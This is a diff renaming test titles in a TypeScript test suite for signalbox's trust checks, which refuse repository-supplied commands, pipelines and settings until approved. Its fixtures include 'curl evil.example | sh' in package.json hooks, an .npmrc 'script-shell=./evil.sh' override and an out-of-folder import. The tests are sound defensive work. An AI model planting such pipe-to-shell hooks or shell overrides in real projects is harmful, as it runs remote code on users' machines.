@@ -8,8 +8,8 @@ const small = (scene: Scene, ...more: readonly string[]) =>
   scene.signalbox("run", "small", "x", "--agents", scene.agents, "--json", ...more);
 const stateOf = (scene: Scene): string => join(scene.repo, "../state/signalbox/trust");
 
-describe("a person's yes", () => {
-  test("[A-19] is asked for before anything runs, bound to the content, and asked again when that changes", async () => {
+describe("trust", () => {
+  test("[A-19] is requested before anything runs, bound to the content, and requested again after a change", async () => {
     const scene = stranger();
     const refused = await small(scene);
     expect(refused.exit).toBe(4);
@@ -23,7 +23,7 @@ describe("a person's yes", () => {
     expect(lastEvent(again)["message"]).toContain("command test: curl evil.example | sh");
   });
 
-  test("[A-19] covers a file beside a pipeline and an agent definition too", async () => {
+  test("[A-19] covers files beside a pipeline and agent definitions too", async () => {
     const scene = stranger();
     await scene.signalbox("init", "--yes", "--json");
     scene.put(".signalbox/pipelines/lib/words.json", "[]\n");
@@ -35,7 +35,7 @@ describe("a person's yes", () => {
     expect(lastEvent(refused)["message"]).toContain("agent file .claude/agents/writer.md (role writer)");
   });
 
-  test("[A-19] of one call is not kept, except for the run that it started", async () => {
+  test("[A-19] of one call is not stored, except for the run that it started", async () => {
     const scene = stranger();
     const parked = await small(scene, "--trust", "--input", "finish=ask");
     expect(parked.exit).toBe(3);
@@ -45,7 +45,7 @@ describe("a person's yes", () => {
     expect((await scene.signalbox("resume", run, "--json")).exit).toBe(0);
   });
 
-  test("a run that was started under trust asks again when the content is another one", async () => {
+  test("is requested again if the content changed since a run was started with it", async () => {
     const scene = stranger();
     const parked = await small(scene, "--trust", "--input", "finish=pause");
     scene.put(".signalbox/config.yaml", "sandbox: off\n");
@@ -54,7 +54,7 @@ describe("a person's yes", () => {
     expect(lastEvent(refused)["message"]).toContain("sandbox off");
   });
 
-  test("is kept where only its owner can read or write it", async () => {
+  test("is stored in files that only their owner can read or write", async () => {
     const scene = stranger();
     await scene.signalbox("init", "--yes", "--json");
     const [file = ""] = readdirSync(stateOf(scene));
@@ -63,7 +63,7 @@ describe("a person's yes", () => {
     expect(JSON.parse(readFileSync(join(stateOf(scene), file), "utf8"))).toMatchObject({ v: 1, repo: scene.repo });
   });
 
-  test("a yes that cannot be read is none", async () => {
+  test("that cannot be read counts as missing", async () => {
     const scene = stranger();
     await scene.signalbox("init", "--yes", "--json");
     const [file = ""] = readdirSync(stateOf(scene));
@@ -72,7 +72,7 @@ describe("a person's yes", () => {
   });
 });
 
-describe("the yes to commands", () => {
+describe("trust in commands", () => {
   /** A clone that brings nothing but a package.json whose test leaves a mark. */
   function project(): Scene & { readonly mark: string; commit(scripts: Readonly<Record<string, string>>): void } {
     const scene = stranger();
@@ -89,7 +89,7 @@ describe("the yes to commands", () => {
   const ledger = (scene: Scene, ...more: readonly string[]) =>
     scene.signalbox("run", "ledger", "x", "--agents", scene.agents, "--json", ...more);
 
-  test("[A-19] is asked for where only a package.json declares them, with the text behind them", async () => {
+  test("[A-19] is requested if only a package.json declares them, and shows the scripts behind them", async () => {
     const scene = project();
     const refused = await ledger(scene);
     expect(refused.exit).toBe(4);
@@ -105,7 +105,7 @@ describe("the yes to commands", () => {
     expect(existsSync(scene.mark)).toBe(false);
   });
 
-  test("[A-19] is asked for again when a script behind a command has changed, and not for another one", async () => {
+  test("[A-19] is requested again if a script behind a command changed, and not for any other script", async () => {
     const scene = project();
     expect((await scene.signalbox("init", "--yes", "--no-check", "--json")).exit).toBe(0);
     const standing = async () => {
@@ -122,14 +122,14 @@ describe("the yes to commands", () => {
     expect(lastEvent(refused)["message"]).toContain("package.json pretest: curl evil.example | sh");
   });
 
-  test("[A-19] is asked for what is committed, which is what runs", async () => {
+  test("[A-19] is requested for the committed files, because those run", async () => {
     const scene = project();
     scene.put("package.json", '{ "name": "x", "scripts": { "test": "node --test" } }\n');
     const refused = await ledger(scene);
     expect(lastEvent(refused)["message"]).toContain(`package.json test: touch ${scene.mark}`);
   });
 
-  test("[A-19] covers settings that put another shell behind every script", async () => {
+  test("[A-19] covers settings that replace the shell of all scripts", async () => {
     const scene = project();
     await scene.signalbox("init", "--yes", "--no-check", "--json");
     scene.put(".npmrc", "script-shell=./evil.sh\n");
@@ -140,7 +140,7 @@ describe("the yes to commands", () => {
     expect(lastEvent(refused)["message"]).toContain(".npmrc: all of it");
   });
 
-  test("[A-19] covers all of a Makefile that a command calls", async () => {
+  test("[A-19] covers the whole Makefile that a command calls", async () => {
     const scene = stranger();
     scene.git("rm", "-rq", ".signalbox");
     const commit = (recipe: string): void => {
@@ -156,7 +156,7 @@ describe("the yes to commands", () => {
     expect(lastEvent(refused)["message"]).toContain("Makefile: all of it");
   });
 
-  test("a run that waits goes on although a script has changed: it keeps the commands of its start", async () => {
+  test("is not needed again by a suspended run whose script changed: the run keeps its original commands", async () => {
     const scene = stranger();
     scene.put("package.json", '{ "scripts": { "test": "node -e 0" } }\n');
     scene.git("add", "package.json");
@@ -170,8 +170,8 @@ describe("the yes to commands", () => {
   });
 });
 
-describe("what needs no yes", () => {
-  test("[A-19] a repository that brings nothing to run starts without one", async () => {
+describe("without trust", () => {
+  test("[A-19] a repository without code or commands starts", async () => {
     const scene = stranger();
     scene.git("rm", "-rq", ".signalbox");
     scene.git("commit", "-qm", "bring nothing");
@@ -183,7 +183,7 @@ describe("what needs no yes", () => {
     await started.ended;
   });
 
-  test("a dry run of a built-in pipeline shows what would need one, and reads no code", async () => {
+  test("a dry run of a built-in pipeline lists the code that needs trust, and loads none of it", async () => {
     const scene = stranger();
     scene.put(".signalbox/pipelines/loud.ts", 'throw new Error("this was run");\n');
     const dry = await scene.signalbox("run", "ledger", "x", "--agents", scene.agents, "--dry-run", "--json");
@@ -197,8 +197,8 @@ describe("what needs no yes", () => {
   });
 });
 
-describe("ways around it", () => {
-  test("a pipeline imports nothing from outside its folder", async () => {
+describe("attempts to bypass trust", () => {
+  test("a pipeline cannot import files from outside its folder", async () => {
     const scene = makeScene();
     scene.put("lib/evil.ts", "export const x = 1;\n");
     scene.put(".signalbox/pipelines/leaning.ts", 'export { x } from "../../lib/evil.ts";\n');
@@ -208,7 +208,7 @@ describe("ways around it", () => {
     expect(lastEvent(refused)["message"]).toContain("../../lib/evil.ts");
   });
 
-  test("runs that git brings are somebody else's orders", async () => {
+  test("run files that are committed to git are refused", async () => {
     const scene = stranger();
     await scene.signalbox("init", "--yes", "--json");
     scene.put(".signalbox/runs/r/start.json", "{}");
